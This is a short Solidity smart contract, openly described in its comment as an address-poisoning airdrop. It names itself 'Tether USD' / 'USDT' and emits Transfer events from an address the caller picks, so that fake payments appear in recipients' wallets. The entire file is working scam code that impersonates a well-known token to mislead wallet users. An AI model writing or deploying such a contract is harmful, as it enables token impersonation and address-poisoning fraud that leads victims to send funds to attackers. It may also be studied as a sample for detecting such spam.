// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.20;

/// An address-poisoning airdrop: it calls itself after a famous token and its Transfer events claim
/// to come from an address the spammer chooses, to look like a payment the wallet expected.
contract SpamToken {
    string public name = "Tether USD";
    string public symbol = "USDT";
    uint8 public decimals = 6;
    mapping(address => uint256) public balanceOf;

    event Transfer(address indexed from, address indexed to, uint256 value);

    function airdrop(address pretendFrom, address[] calldata recipients, uint256 value) external {
        for (uint256 i = 0; i < recipients.length; i++) {
            balanceOf[recipients[i]] += value;
            emit Transfer(pretendFrom, recipients[i], value);
        }
    }

    function transfer(address to, uint256 value) external returns (bool) {
        require(balanceOf[msg.sender] >= value, "balance");
        balanceOf[msg.sender] -= value;
        balanceOf[to] += value;
        emit Transfer(msg.sender, to, value);
        return true;
    }
}
